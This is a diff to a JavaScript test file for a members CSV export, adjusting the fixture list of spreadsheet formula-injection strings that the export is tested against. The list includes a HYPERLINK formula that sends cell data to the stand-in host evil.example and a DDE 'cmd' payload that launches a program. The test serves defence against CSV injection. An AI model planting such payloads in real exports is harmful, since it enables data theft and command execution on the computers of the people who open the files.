@@ -297,12 +297,13 @@ describe('counts and the incomplete members report', () => {
 
 describe('the incomplete members CSV and spreadsheet formulas', () => {
   // Names a spreadsheet would run as formulas (OWASP CSV injection), and names it would not.
-  // Formulas after leading spaces count too: a spreadsheet may trim them (docs/decisions.md, CSV).
+  // Formulas after leading spaces count too: a spreadsheet may trim them (docs/decisions.md, CSV). None holds an X12
+  // delimiter (* ~ : ^), which names may not (docs/decisions.md "Members and personal data", Names carriers can read).
   const formulas = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '=HYPERLINK("//evil.example/?"&A1,"click")',
     '+1+1',
     "-2+3+cmd|' /C calc'!A0",
-    '@SUM(A1:A9)',
+    '@SUM(A1;A9)',
     '\t=1+1',
     '\r=1+1',
     ' =1+1',
